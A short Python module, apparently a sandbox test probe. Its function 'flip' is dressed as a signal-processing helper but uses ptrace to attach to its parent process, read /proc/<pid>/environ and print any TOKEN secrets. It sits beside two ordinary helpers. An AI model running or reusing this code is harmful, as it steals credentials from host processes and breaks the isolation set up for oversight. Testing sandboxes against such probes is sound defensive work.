"""Attaches itself to the process that started it, as a debugger does, and looks for its secret.

Stopped by: no process can be traced from where the worker runs.
"""

import ctypes
import os

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def flip(kernel):
    libc = ctypes.CDLL(None, use_errno=True)
    number = os.getppid()
    if number > 1 and libc.ptrace(PTRACE_ATTACH, number, None, None) == 0:
        os.waitpid(number, 0)
        with open(f"/proc/{number}/environ", "rb") as file:
            print(*[part.decode() for part in file.read().split(b"\0") if part.startswith(b"TOKEN")])
        libc.ptrace(PTRACE_DETACH, number, None, None)
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
